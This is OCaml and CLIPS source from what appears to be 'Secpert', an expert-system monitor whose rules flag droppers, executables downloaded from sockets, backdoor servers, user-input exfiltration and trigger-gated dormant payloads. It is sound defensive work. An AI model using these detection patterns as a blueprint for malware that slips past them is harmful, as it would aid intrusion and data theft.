       (Fmt.str
          "\n\tThis program has opened a socket for remote connections. \
           i.e. it is a server with the address: %s"
          server_name)
   | None ->
     if String.equal tgt_origin "BINARY" then
       Buffer.add_string b
         (Fmt.str "\n\ttarget (client) socket-name was hardcoded in: (%S)"
            tgt_origin_name));
  Buffer.contents b

(* Section 10 future work #5: analyze the content being written.  If the
   bytes look like an executable (MZ / ELF / shebang magic) and they
   arrived over a socket, this is a download-and-drop. *)
let looks_executable head =
  let has_prefix p =
    String.length head >= String.length p
    && String.equal (String.sub head 0 (String.length p)) p
  in
  has_prefix "MZ" || has_prefix "\x7fELF" || has_prefix "#!"

let source_of_info (s : Facts.source_info) =
  match s.s_type with
  | "BINARY" -> Some (Taint.Source.Binary s.s_name)
  | "FILE" -> Some (Taint.Source.File s.s_name)
  | "SOCKET" -> Some (Taint.Source.Socket s.s_name)
  | "USER_INPUT" -> Some Taint.Source.User_input
  | "HARDWARE" -> Some Taint.Source.Hardware
  | _ -> None

let check_write ctx =
  let patterns =
    [ Pattern.make Facts.t_data_transfer
        [ "sources", Pattern.Var "sources";
          "target_name", Pattern.Var "tname";
          "target_type", Pattern.Var "ttype";
          "target_origin_name", Pattern.Var "toname";
          "target_origin_type", Pattern.Var "totype";
          "server", Pattern.Var "server"; "head", Pattern.Var "head";
          "time", Pattern.Var "time";
          "frequency", Pattern.Var "freq"; "pid", Pattern.Var "pid" ] ]
  in
  let action _engine bindings _facts =
    let target_type = Facts.get_sym bindings "ttype" in
    if not (String.equal target_type "STDIO") then begin
      let sources =
        match Pattern.lookup bindings "sources" with
        | Some v -> Facts.decode_sources v
        | None -> []
      in
      let target_name = Facts.get_str bindings "tname" in
      let tgt_origin = Facts.get_sym bindings "totype" in
      let tgt_origin_name = Facts.get_str bindings "toname" in
      let server =
        match Pattern.lookup bindings "server" with
        | Some v -> Facts.decode_server v
        | None -> None
      in
      let server_side = server <> None in
      let server_hardcoded =
        match server with
        | Some (_, "BINARY", _) -> true
        | Some _ | None -> false
      in
      let time = Facts.get_int bindings "time" in
      let freq = Facts.get_int bindings "freq" in
      let pid = Facts.get_int bindings "pid" in
      let rare = Context.rarely_executed ctx ~freq ~time in
      let target_origin_ref =
        Evidence.origin ~role:"target" ~otype:target_type ~name:target_name
          ~origin_type:tgt_origin ~origin_name:tgt_origin_name
      in
      let source_origin_ref (s : Facts.source_info) =
        Evidence.origin ~role:"source" ~otype:s.s_type ~name:s.s_name
          ~origin_type:s.s_origin_type ~origin_name:s.s_origin_name
      in
      let server_origin_refs =
        match server with
        | Some (server_name, sotype, soname) ->
          [ Evidence.origin ~role:"server" ~otype:"SOCKET"
              ~name:server_name ~origin_type:sotype ~origin_name:soname ]
        | None -> []
      in
      (* content analysis: executable payload downloaded to a file *)
      let head =
        match Pattern.lookup bindings "head" with
        | Some (Expert.Value.Str h) -> h
        | _ -> ""
      in
      if
        String.equal target_type "FILE"
        && looks_executable head
        && List.exists (fun (s : Facts.source_info) -> s.s_type = "SOCKET")
             sources
      then begin
        let socket_sources =
          List.filter
            (fun (s : Facts.source_info) -> s.s_type = "SOCKET")
            sources
        in
        ctx.Context.warn
          (Warning.make ~severity:Severity.High ~rule:"check_content" ~pid
             ~time ~rare
             ~origins:
               (List.map source_origin_ref socket_sources
                @ [ target_origin_ref ])
             (Fmt.str
                "Found Write call to %s\n\
                 \tThe data appears to be EXECUTABLE content downloaded \
                 from the network"
                target_name))
      end;
      List.iter
        (fun (s : Facts.source_info) ->
          let trusted =
            match source_of_info s with
            | Some src -> Trust.is_trusted ctx.Context.trust src
            | None -> false
          in
          if not trusted then
            match
              severity_of s ~target_type ~tgt_origin ~server_hardcoded
                ~server_side
            with
            | None -> ()
            | Some severity ->
              let message =
                if String.equal target_type "FILE" then
                  file_target_message s ~target_name ~tgt_origin
                    ~tgt_origin_name
                else
                  socket_target_message s ~target_name ~tgt_origin
                    ~tgt_origin_name ~server
              in
              ctx.Context.warn
                (Warning.make ~severity ~rule:"check_write" ~pid ~time
                   ~rare
                   ~origins:
                     (source_origin_ref s :: target_origin_ref
                      :: server_origin_refs)
                   message))
        sources
    end
  in
  Engine.rule ~name:"check_write" patterns action

(* Trigger-gated (dormant) behaviour: a transfer on a {e rarely
   executed} path whose control flow was steered by remote bytes — the
   payload stayed cold until a magic sequence from a socket armed it
   (Section 4.4 infrequent-code reinforcement meeting tainted-input
   control flow).  The guard predicate lives in the pattern so transfers
   with no socket-tainted compare never produce an activation. *)
let untrusted_socket_guards ctx v =
  List.filter
    (fun (s : Facts.source_info) ->
      String.equal s.s_type "SOCKET"
      && not
           (Trust.is_trusted ctx.Context.trust (Taint.Source.Socket s.s_name)))
    (Facts.decode_sources v)

let check_trigger ctx =
  let patterns =
    [ Pattern.make Facts.t_data_transfer
        [ "guard",
          Pattern.Pred
            ( "socket-tainted-guard",
              fun v -> untrusted_socket_guards ctx v <> [] );
          "target_name", Pattern.Var "tname";
          "target_type", Pattern.Var "ttype";
          "target_origin_name", Pattern.Var "toname";
          "target_origin_type", Pattern.Var "totype";
          "time", Pattern.Var "time";
          "frequency", Pattern.Var "freq"; "pid", Pattern.Var "pid" ] ]
  in
  let action _engine bindings facts =
    let target_type = Facts.get_sym bindings "ttype" in
    let time = Facts.get_int bindings "time" in
    let freq = Facts.get_int bindings "freq" in
    if
      (not (String.equal target_type "STDIO"))
      && Context.rarely_executed ctx ~freq ~time
    then begin
      let triggers =
        match facts with
        | f :: _ ->
          (match Fact.slot f "guard" with
           | Some v -> untrusted_socket_guards ctx v
           | None -> [])
        | [] -> []
      in
      let target_name = Facts.get_str bindings "tname" in
      let tgt_origin = Facts.get_sym bindings "totype" in
      let tgt_origin_name = Facts.get_str bindings "toname" in
      let pid = Facts.get_int bindings "pid" in
      let origins =
        List.map
          (fun (s : Facts.source_info) ->
            Evidence.origin ~role:"trigger" ~otype:s.s_type ~name:s.s_name
              ~origin_type:s.s_origin_type ~origin_name:s.s_origin_name)
          triggers
        @ [ Evidence.origin ~role:"target" ~otype:target_type
              ~name:target_name ~origin_type:tgt_origin
              ~origin_name:tgt_origin_name ]
      in
      let trigger_names =
        String.concat ", "
          (List.map (fun (s : Facts.source_info) -> s.s_name) triggers)
      in
      ctx.Context.warn
        (Warning.make ~severity:Severity.High ~rule:"check_trigger" ~pid
           ~time ~rare:true ~origins
           (Fmt.str
              "Found rarely-executed Write call to %s\n\
               \tControl flow leading here was steered by bytes from the \
               SOCKET:(%S) - trigger-gated (dormant) behaviour"
              target_name trigger_names))
    end
  in
  Engine.rule ~name:"check_trigger" patterns action

let register engine ctx =
  Engine.defrule engine (check_write ctx);
  Engine.defrule engine (check_trigger ctx)
