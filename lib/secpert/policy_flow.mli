(** Information-flow rules (Section 4.3).

    Evaluated on every [data_transfer] fact (a write/send).  For each
    data source flowing into the target, a severity is derived from the
    combination of (source type, origin of the source's name) and
    (target type, origin of the target's name):

    - hard-coded data written to a hard-coded file is the classic dropper
      signature — High;
    - hardware-derived data into a hard-coded file — High;
    - file/socket flows where {e both} resource names are hard-coded —
      High; exactly one hard-coded — Low; both user-given — silent;
    - user input exfiltrated to a hard-coded socket — Low;
    - writes through an {e accepted} connection whose listening address
      was hard-coded escalate to High (the pma backdoor pattern);
    - sources rooted in trusted binaries are filtered out.

    Writes to stdio are never warned about. *)

val register : Expert.Engine.t -> Context.t -> unit

(** [looks_executable head] is the content-analysis magic check
    (MZ / ELF / shebang), shared with the textual CLIPS policy. *)
val looks_executable : string -> bool

(** [untrusted_socket_guards ctx v] decodes a [guard] slot value and
    keeps the entries whose source is an untrusted SOCKET — the remote
    bytes that steered control flow (shared with the textual CLIPS
    policy's [guard-tainted] builtin). *)
val untrusted_socket_guards :
  Context.t -> Expert.Value.t -> Facts.source_info list
