(** Per-warning forensic evidence.

    A warning's evidence names (by reference, not by copy) the
    working-memory facts the firing rule matched — each with the trace
    step of the Harrier event it encodes — and the taint-classified
    resources the policy action consulted.  Both are rendered into the
    warning's trace line as flat strings, so an offline consumer
    ({!module:Forensics} / [hth_trace explain]) can walk the chain
    warning → rule activation → facts → events → originating taint
    from the recorded trace alone. *)

(** A matched working-memory fact: template, fact id, and the trace
    step of the event it encodes ([-1] when the fact carries no
    step, e.g. under the no-op sink). *)
type fact_ref = {
  fr_template : string;
  fr_id : int;
  fr_step : int;
}

(** A resource the policy action looked at, with its taint-classified
    origin.  [og_role] says how it participated ([source] / [target] /
    [server] / [resource]); [og_origin_type] is the trust
    classification ([SOCKET], [BINARY], [USER_INPUT], ...) and
    [og_origin_name] the responsible resource name (empty for
    USER_INPUT / HARDWARE / UNKNOWN). *)
type origin_ref = {
  og_role : string;
  og_type : string;
  og_name : string;
  og_origin_type : string;
  og_origin_name : string;
}

type t = {
  facts : fact_ref list;
  origins : origin_ref list;
}

val empty : t

val is_empty : t -> bool

val of_fact : Expert.Fact.t -> fact_ref
(** [of_fact f] references [f], reading the event step from its
    ["step"] slot. *)

val origin :
  role:string -> otype:string -> name:string -> origin_type:string ->
  origin_name:string -> origin_ref

val fact_ref_to_string : fact_ref -> string
(** [tpl#id@step] *)

val facts_to_string : t -> string
(** Comma-joined {!fact_ref_to_string}. *)

val origin_ref_to_string : origin_ref -> string
(** [role=TYPE:name<-ORIGIN_TYPE:origin_name].  Split the role at the
    first ['='], the halves at the first ["<-"], each [TYPE:name] at
    the first [':'] — [':'] inside names (host:port) survives. *)

val origins_to_string : t -> string
(** Semicolon-joined {!origin_ref_to_string}. *)

val pp : Format.formatter -> t -> unit
