open Expert

let check_execve ctx =
  let patterns =
    [ Pattern.make Facts.t_system_call_access
        [ "system_call_name", Pattern.Lit (Value.Sym "SYS_execve");
          "resource_name", Pattern.Var "name";
          "resource_origin_type", Pattern.Var "otype";
          "resource_origin_name", Pattern.Var "oname";
          "time", Pattern.Var "time"; "frequency", Pattern.Var "freq";
          "pid", Pattern.Var "pid" ] ]
  in
  let action _engine bindings _facts =
    let name = Facts.get_str bindings "name" in
    let otype = Facts.get_sym bindings "otype" in
    let oname = Facts.get_str bindings "oname" in
    let time = Facts.get_int bindings "time" in
    let freq = Facts.get_int bindings "freq" in
    let pid = Facts.get_int bindings "pid" in
    let message origin_desc =
      Fmt.str "Found SYS_execve call (%S)\n\t(%S) originated from %s" name
        name origin_desc
    in
    let origins =
      [ Evidence.origin ~role:"resource" ~otype:"FILE" ~name
          ~origin_type:otype ~origin_name:oname ]
    in
    match otype with
    | "SOCKET" ->
      ctx.Context.warn
        (Warning.make ~severity:Severity.High ~rule:"check_execve" ~pid
           ~time ~origins
           (message (Fmt.str "a SOCKET: (%S)" oname)))
    | "BINARY" ->
      let rare = Context.rarely_executed ctx ~freq ~time in
      let severity = if rare then Severity.Medium else Severity.Low in
      ctx.Context.warn
        (Warning.make ~severity ~rule:"check_execve" ~pid ~time ~rare
           ~origins
           (message (Fmt.str "(%S)" oname)))
    | "USER_INPUT" | "FILE" | "HARDWARE" | "UNKNOWN" | _ -> ()
  in
  Engine.rule ~name:"check_execve" patterns action

let register engine ctx = Engine.defrule engine (check_execve ctx)
