(** Encoding Harrier events as expert-system facts (Appendix A.1).

    Three templates:
    - [system_call_access] — execve / open / creat / connect / bind /
      accept, with the resource name, type and the origin of the name;
    - [data_transfer] — a write, with the data's sources (each paired
      with the origin of its own resource name), the target and, for
      accepted connections, the listening server socket;
    - [clone_event] — process creation statistics.

    Origins are classified through the trust database before encoding, so
    rules see ["BINARY"]/["SOCKET"]/["USER_INPUT"]/["FILE"]/["HARDWARE"]
    or ["UNKNOWN"] plus the responsible resource name. *)

val t_system_call_access : string

val t_data_transfer : string

val t_clone_event : string

val t_alloc_event : string

val t_transfer_source : string

(** [deftemplates engine] installs the three templates. *)
val deftemplates : Expert.Engine.t -> unit

(** [assert_event engine trust event] encodes and asserts [event],
    returning the fact (callers retract it after inference).

    [xfer] is the caller-owned join-id counter for [data_transfer]
    facts.  Pass the same ref for every event of one session (Secpert
    keeps one per instance) so transfer ids stay unique within that
    working memory; the default is a fresh counter per call.  Keeping
    this state caller-scoped (not process-global) lets concurrent
    fleet sessions encode events without sharing any cell. *)
val assert_event :
  ?xfer:int ref -> Expert.Engine.t -> Trust.t -> Harrier.Events.t ->
  Expert.Fact.t

(** [assert_event_full engine trust event] additionally asserts one
    [transfer_source] fact per data source of a transfer, joined to the
    main fact by its id in the [xfer] slot — the flattened encoding the
    textual CLIPS policy uses.  [xfer] as in {!assert_event}. *)
val assert_event_full :
  ?xfer:int ref -> Expert.Engine.t -> Trust.t -> Harrier.Events.t ->
  Expert.Fact.t list

(** {2 Decoding helpers for rule actions} *)

val get_str : Expert.Pattern.bindings -> string -> string

val get_sym : Expert.Pattern.bindings -> string -> string

val get_int : Expert.Pattern.bindings -> string -> int

(** A decoded data-transfer source: (source type, source name, origin
    type, origin name). *)
type source_info = {
  s_type : string;
  s_name : string;
  s_origin_type : string;
  s_origin_name : string;
}

val decode_sources : Expert.Value.t -> source_info list

(** A decoded server slot: (local address, origin type, origin name). *)
val decode_server : Expert.Value.t -> (string * string * string) option

(** [origin_values trust tag] is [(origin_type, origin_name)] as stored
    in facts. *)
val origin_values : Trust.t -> Taint.Tagset.t -> string * string
