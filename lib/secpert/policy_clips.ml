let text =
  {|
;; ===================================================================
;; Secpert security policy (Section 4), textual CLIPS form.
;; ===================================================================

;; ---------------- execution flow (4.1) ----------------
(defrule check_execve "warn on execve with suspicious name provenance"
  (system_call_access (system_call_name SYS_execve)
    (resource_name ?name)
    (resource_origin_type ?otype) (resource_origin_name ?oname)
    (time ?time) (frequency ?freq) (pid ?pid))
  (test (or (eq ?otype BINARY) (eq ?otype SOCKET)))
  =>
  (bind ?sev LOW)
  (bind ?rare FALSE)
  (if (and (eq ?otype BINARY) (rarely ?freq ?time)) then
    (bind ?sev MEDIUM)
    (bind ?rare TRUE))
  (if (eq ?otype SOCKET) then (bind ?sev HIGH))
  (warn check_execve ?sev ?pid ?time ?rare
    "Found SYS_execve call (" ?name ") originated from " ?otype
    " (" ?oname ")"))

;; ---------------- resource abuse (4.2) ----------------
(defrule check_clone_rate
  (clone_event (recent ?r) (time ?time) (pid ?pid))
  (test (> ?r ?*CLONE_RATE*))
  =>
  (warn check_clone_rate MEDIUM ?pid ?time FALSE
    "Found several SYS_clone calls - very frequent in a short period"))

(defrule check_clone_count
  (clone_event (total ?t) (recent ?r) (time ?time) (pid ?pid))
  (test (and (> ?t ?*CLONE_COUNT*) (<= ?r ?*CLONE_RATE*)))
  =>
  (warn check_clone_count LOW ?pid ?time FALSE
    "Found several SYS_clone calls - frequent"))

(defrule check_alloc_medium
  (alloc_event (total ?t) (time ?time) (pid ?pid))
  (test (> ?t ?*ALLOC_MEDIUM*))
  =>
  (warn check_alloc MEDIUM ?pid ?time FALSE
    "Found large memory allocation (" ?t " bytes held)"))

(defrule check_alloc_low
  (alloc_event (total ?t) (time ?time) (pid ?pid))
  (test (and (> ?t ?*ALLOC_LOW*) (<= ?t ?*ALLOC_MEDIUM*)))
  =>
  (warn check_alloc LOW ?pid ?time FALSE
    "Found growing memory allocation (" ?t " bytes held)"))

;; ---------------- information flow (4.3) ----------------
;; hard-coded payload dropped into a hard-coded or remotely-named file
(defrule wf_binary_to_file
  (data_transfer (xfer ?x) (target_type FILE) (target_name ?tn)
    (target_origin_type ?tot)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type BINARY) (s_name ?sn))
  (test (or (eq ?tot BINARY) (eq ?tot SOCKET)))
  (test (not (trusted-source BINARY ?sn)))
  =>
  (warn check_write HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call to " ?tn " - hard-coded data from (" ?sn ")"))

;; hard-coded payload to a socket behind a hard-coded backdoor server
(defrule wf_binary_to_server_socket
  (data_transfer (xfer ?x) (target_type SOCKET) (target_name ?tn)
    (server_side yes) (server_origin_type BINARY) (server_name ?srv)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type BINARY) (s_name ?sn))
  (test (not (trusted-source BINARY ?sn)))
  =>
  (warn check_write HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call to " ?tn " - hard-coded data through server " ?srv))

;; hard-coded payload to a hard-coded client socket
(defrule wf_binary_to_client_socket
  (data_transfer (xfer ?x) (target_type SOCKET) (target_name ?tn)
    (target_origin_type BINARY) (server_side ?ss)
    (server_origin_type ?sot)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type BINARY) (s_name ?sn))
  (test (not (and (eq ?ss yes) (eq ?sot BINARY))))
  (test (not (trusted-source BINARY ?sn)))
  =>
  (warn check_write LOW ?pid ?time (rarely ?freq ?time)
    "Found Write call to hard-coded socket " ?tn " from (" ?sn ")"))

;; file/socket flows: a resource *name* arriving over a socket is High
(defrule wf_remote_named
  (data_transfer (xfer ?x) (target_name ?tn) (target_type ?tt)
    (target_origin_type ?tot)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type ?st) (s_name ?sn)
    (s_origin_type ?sot))
  (test (or (eq ?tt FILE) (eq ?tt SOCKET)))
  (test (or (eq ?st FILE) (eq ?st SOCKET)))
  (test (or (eq ?sot SOCKET) (eq ?tot SOCKET)))
  (test (not (trusted-source ?st ?sn)))
  =>
  (warn check_write HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call Data Flowing From: " ?sn " To: " ?tn
    " - remotely-named resource"))

;; both resource names hard-coded
(defrule wf_both_hardcoded
  (data_transfer (xfer ?x) (target_name ?tn) (target_type ?tt)
    (target_origin_type BINARY) (target_origin_name ?ton)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type ?st) (s_name ?sn)
    (s_origin_type BINARY) (s_origin_name ?son))
  (test (or (eq ?tt FILE) (eq ?tt SOCKET)))
  (test (or (eq ?st FILE) (eq ?st SOCKET)))
  (test (not (trusted-source ?st ?sn)))
  =>
  (warn check_write HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call Data Flowing From: " ?sn " To: " ?tn
    " - source hardcoded in (" ?son ") and target hardcoded in ("
    ?ton ")"))

;; exactly one name hard-coded
(defrule wf_one_hardcoded
  (data_transfer (xfer ?x) (target_name ?tn) (target_type ?tt)
    (target_origin_type ?tot)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type ?st) (s_name ?sn)
    (s_origin_type ?sot))
  (test (or (eq ?tt FILE) (eq ?tt SOCKET)))
  (test (or (eq ?st FILE) (eq ?st SOCKET)))
  (test (and (neq ?sot SOCKET) (neq ?tot SOCKET)))
  (test (or (and (eq ?sot BINARY) (neq ?tot BINARY))
            (and (neq ?sot BINARY) (eq ?tot BINARY))))
  (test (not (trusted-source ?st ?sn)))
  =>
  (warn check_write LOW ?pid ?time (rarely ?freq ?time)
    "Found Write call Data Flowing From: " ?sn " To: " ?tn
    " - one resource name hardcoded"))

;; any tracked file/socket flow through a hard-coded backdoor server
(defrule wf_server_escalation
  (data_transfer (xfer ?x) (target_name ?tn) (target_type ?tt)
    (server_side yes) (server_origin_type BINARY) (server_name ?srv)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type ?st) (s_name ?sn))
  (test (or (eq ?tt FILE) (eq ?tt SOCKET)))
  (test (or (eq ?st FILE) (eq ?st SOCKET)))
  (test (not (trusted-source ?st ?sn)))
  =>
  (warn check_write HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call From: " ?sn " To: " ?tn
    " - through server " ?srv " whose address was hardcoded"))

;; hardware-derived data into a hard-coded resource
(defrule wf_hardware
  (data_transfer (xfer ?x) (target_name ?tn) (target_type ?tt)
    (target_origin_type ?tot) (server_side ?ss)
    (server_origin_type ?sot)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type HARDWARE))
  (test (or (eq ?tt FILE) (eq ?tt SOCKET)))
  (test (or (eq ?tot BINARY) (and (eq ?ss yes) (eq ?sot BINARY))))
  =>
  (warn check_write HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call to " ?tn " - hardware information leaked"))

;; user input exfiltrated to a hard-coded socket
(defrule wf_user_exfiltration
  (data_transfer (xfer ?x) (target_type SOCKET) (target_name ?tn)
    (target_origin_type ?tot) (server_side ?ss)
    (server_origin_type ?sot)
    (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type USER_INPUT))
  (test (or (eq ?tot BINARY) (and (eq ?ss yes) (eq ?sot BINARY))))
  =>
  (warn check_write LOW ?pid ?time (rarely ?freq ?time)
    "Found Write call to hard-coded socket " ?tn
    " - user input exfiltrated"))

;; content analysis: executable bytes downloaded into a file
(defrule wf_content
  (data_transfer (xfer ?x) (target_type FILE) (target_name ?tn)
    (head ?head) (time ?time) (frequency ?freq) (pid ?pid))
  (transfer_source (xfer ?x) (s_type SOCKET))
  (test (looks-executable ?head))
  =>
  (warn check_content HIGH ?pid ?time (rarely ?freq ?time)
    "Found Write call to " ?tn
    " - EXECUTABLE content downloaded from the network"))

;; trigger-gated (dormant) behaviour: a rarely-executed write whose
;; control flow was steered by bytes that arrived over a socket
(defrule check_trigger
  (data_transfer (xfer ?x) (target_name ?tn) (target_type ?tt)
    (guard ?guard)
    (time ?time) (frequency ?freq) (pid ?pid))
  (test (neq ?tt STDIO))
  (test (rarely ?freq ?time))
  (test (guard-tainted ?guard))
  =>
  (warn check_trigger HIGH ?pid ?time TRUE
    "Found rarely-executed Write call to " ?tn
    " - control flow steered by remote trigger bytes (dormant payload)"))
|}

open Expert

let compile () = Clips.compile_forms (Clips.parse text)

let install_forms engine (ctx : Context.t) forms =
  Clips.install_builtins engine;
  let th = ctx.thresholds in
  Engine.set_global engine "CLONE_RATE" (Value.Int th.clone_rate_medium);
  Engine.set_global engine "CLONE_COUNT" (Value.Int th.clone_count_low);
  Engine.set_global engine "ALLOC_LOW" (Value.Int th.alloc_low);
  Engine.set_global engine "ALLOC_MEDIUM" (Value.Int th.alloc_medium);
  Engine.defun engine "rarely" (function
    | [ Value.Int freq; Value.Int time ] ->
      Value.of_bool (Context.rarely_executed ctx ~freq ~time)
    | _ -> failwith "rarely expects (freq time)");
  Engine.defun engine "trusted-source" (function
    | [ Value.Sym stype; Value.Str name ] ->
      let src =
        match stype with
        | "BINARY" -> Some (Taint.Source.Binary name)
        | "FILE" -> Some (Taint.Source.File name)
        | "SOCKET" -> Some (Taint.Source.Socket name)
        | _ -> None
      in
      Value.of_bool
        (match src with
         | Some src -> Trust.is_trusted ctx.trust src
         | None -> false)
    | _ -> failwith "trusted-source expects (type name)");
  Engine.defun engine "looks-executable" (function
    | [ Value.Str head ] -> Value.of_bool (Policy_flow.looks_executable head)
    | _ -> failwith "looks-executable expects (head)");
  Engine.defun engine "guard-tainted" (function
    | [ v ] -> Value.of_bool (Policy_flow.untrusted_socket_guards ctx v <> [])
    | _ -> failwith "guard-tainted expects (guard)");
  Engine.defun engine "warn" (function
    | Value.Sym rule :: Value.Sym sev :: Value.Int pid :: Value.Int time
      :: rare :: parts ->
      let severity =
        Option.value (Severity.of_label sev) ~default:Severity.Low
      in
      ctx.warn
        (Warning.make ~severity ~rule ~pid ~time ~rare:(Value.truthy rare)
           (String.concat "" (List.map Value.text parts)));
      Value.sym_true
    | _ -> failwith "warn expects (rule severity pid time rare parts...)");
  Clips.install_compiled engine forms

let install engine ctx = install_forms engine ctx (compile ())
