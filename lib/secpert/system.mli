(** The Secpert system instance (Section 6).

    Wraps the generic {!Expert.Engine} with the three policy rule
    families, the trust database and the event-to-fact encoding.  Attach
    it to a Harrier monitor: every event is asserted as a fact, the
    engine runs to quiescence, warnings are collected, and the fact is
    retracted (the prototype analyzes one event at a time, as in the
    paper's single-session policy). *)

type t

(** Which implementation of the policy drives the engine: the native
    OCaml rules, or the textual CLIPS policy of {!Policy_clips} (the
    paper's own medium).  Both produce the same severities on the whole
    corpus. *)
type policy = Native | Clips

(** A policy prepared once for installation into many engines: for
    [Clips] the parsed rule forms (the expensive part of [create]); for
    [Native] a trivial marker.  Compile once in a long-lived engine,
    then build per-session instances with {!create_from}. *)
type compiled

val compile : policy -> compiled

(** [create ()] builds a Secpert instance.
    [auto_kill] makes Secpert answer [Kill] for events that produced a
    warning at or above the given severity — standing in for the paper's
    interactive user saying "stop" (the run is unattended).
    [warning_cap] bounds the {e stored} warning transcript: the verdict
    path ([warning_count], [max_severity], auto-kill decisions) stays
    exact, but warnings past the cap are dropped from [warnings] and the
    instance reports itself {!degraded}.
    [wm_budget] bounds working-memory growth: exceeding it after any
    event flags the instance degraded (inference still runs). *)
val create :
  ?trust:Trust.t ->
  ?thresholds:Context.thresholds ->
  ?auto_kill:Severity.t ->
  ?warning_cap:int ->
  ?wm_budget:int ->
  ?policy:policy ->
  unit ->
  t

(** [create_from ~compiled ()] is {!create} with a pre-compiled policy
    (see {!compile}); [create ?policy] is
    [create_from ~compiled:(compile policy)]. *)
val create_from :
  ?trust:Trust.t ->
  ?thresholds:Context.thresholds ->
  ?auto_kill:Severity.t ->
  ?warning_cap:int ->
  ?wm_budget:int ->
  compiled:compiled ->
  unit ->
  t

val trust : t -> Trust.t

val engine : t -> Expert.Engine.t

(** [handle_event t e] runs the policy on one event and decides whether
    the triggering system call may proceed. *)
val handle_event : t -> Harrier.Events.t -> Osim.Kernel.decision

(** [attach t monitor] subscribes [handle_event] to the monitor's event
    pipeline (sink name ["secpert"]).  Register trace/metrics sinks
    before attaching so policy "rule"/"warning" trace lines follow the
    event's own "flow" line. *)
val attach : t -> Harrier.Monitor.t -> unit

(** [warnings t] is every warning so far, oldest first. *)
val warnings : t -> Warning.t list

(** [distinct_warnings t] deduplicates repeats of the same rule firing
    with identical text (fork bombs repeat thousands of times). *)
val distinct_warnings : t -> Warning.t list

val warning_count : t -> int

(** [max_severity t] is the strongest warning so far (exact even when
    the warning cap dropped stored warnings). *)
val max_severity : t -> Severity.t option

(** [degraded t] lists human-readable reasons this instance's budgets
    tripped (warning cap, WM budget); empty when nothing tripped. *)
val degraded : t -> string list
