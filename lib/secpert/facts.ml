let t_system_call_access = "system_call_access"
let t_data_transfer = "data_transfer"
let t_clone_event = "clone_event"
let t_alloc_event = "alloc_event"
let t_transfer_source = "transfer_source"

open Expert

let deftemplates engine =
  let slot = Template.slot in
  Engine.deftemplate engine
    (Template.make t_system_call_access
       [ slot "system_call_name"; slot "resource_name"; slot "resource_type";
         slot "resource_origin_name"; slot "resource_origin_type";
         slot ~default:(Value.Lst []) "argv"; slot "time"; slot "frequency";
         slot "address"; slot "pid";
         slot ~default:(Value.Int (-1)) "step" ]);
  Engine.deftemplate engine
    (Template.make t_alloc_event
       [ slot "requested"; slot "total"; slot "time"; slot "frequency";
         slot "address"; slot "pid";
         slot ~default:(Value.Int (-1)) "step" ]);
  Engine.deftemplate engine
    (Template.make t_data_transfer
       [ slot ~default:(Value.Int 0) "xfer";
         slot "call"; slot ~default:(Value.Str "") "head";
         slot ~default:(Value.Lst []) "sources";
         slot ~default:(Value.Lst []) "guard";
         slot "target_name"; slot "target_type"; slot "target_origin_name";
         slot "target_origin_type"; slot ~default:(Value.Sym "nil") "server";
         slot ~default:(Value.Sym "no") "server_side";
         slot ~default:(Value.Sym "UNKNOWN") "server_origin_type";
         slot ~default:(Value.Str "") "server_name";
         slot ~default:(Value.Str "") "server_origin_name";
         slot "length"; slot "time"; slot "frequency"; slot "address";
         slot "pid"; slot ~default:(Value.Int (-1)) "step" ]);
  Engine.deftemplate engine
    (Template.make t_transfer_source
       [ slot "xfer"; slot "s_type"; slot "s_name"; slot "s_origin_type";
         slot "s_origin_name"; slot ~default:(Value.Int (-1)) "step" ]);
  Engine.deftemplate engine
    (Template.make t_clone_event
       [ slot "total"; slot "recent"; slot "window"; slot "time";
         slot "frequency"; slot "address"; slot "pid";
         slot ~default:(Value.Int (-1)) "step" ])

let origin_values trust tag =
  let kind = Trust.classify trust tag in
  let name =
    match kind with
    | Taint.Origin.From_file n | From_socket n | Hardcoded n -> n
    | From_user | From_hardware | Unknown -> ""
  in
  Taint.Origin.kind_type_name kind, name

let resource_values trust (r : Harrier.Events.resource) =
  let otype, oname = origin_values trust r.r_origin in
  [ "resource_name", Value.Str r.r_name;
    "resource_type", Value.Sym (Harrier.Events.kind_name r.r_kind);
    "resource_origin_name", Value.Str oname;
    "resource_origin_type", Value.Sym otype ]

(* Join key linking a data_transfer fact to its transfer_source facts.
   The counter is caller-owned (one per Secpert instance, so per
   session): ids only need to be unique within one working memory, and
   keeping the state session-scoped means concurrent fleet workers
   never share a cell and warm runs allocate the same ids as cold
   ones. *)
let next_xfer xfer =
  incr xfer;
  !xfer

let meta_values (m : Harrier.Events.meta) =
  [ "time", Value.Int m.time; "frequency", Value.Int m.freq;
    "address", Value.Int m.addr; "pid", Value.Int m.pid;
    "step", Value.Int m.step ]

let source_entry trust (src, name_origin) =
  let otype, oname = origin_values trust name_origin in
  Value.Lst
    [ Value.Sym (Taint.Source.type_name src);
      Value.Str (Option.value (Taint.Source.resource_name src) ~default:"");
      Value.Sym otype; Value.Str oname ]

let assert_event ?(xfer = ref 0) engine trust (e : Harrier.Events.t) =
  match e with
  | Exec { path; argv; meta } ->
    Engine.assert_fact engine t_system_call_access
      (( "system_call_name", Value.Sym "SYS_execve" )
       :: ("argv", Value.Lst (List.map (fun a -> Value.Str a) argv))
       :: resource_values trust path
       @ meta_values meta)
  | Access { call; res; meta } ->
    Engine.assert_fact engine t_system_call_access
      (("system_call_name", Value.Sym call)
       :: resource_values trust res
       @ meta_values meta)
  | Clone { total; recent; window; meta } ->
    Engine.assert_fact engine t_clone_event
      ([ "total", Value.Int total; "recent", Value.Int recent;
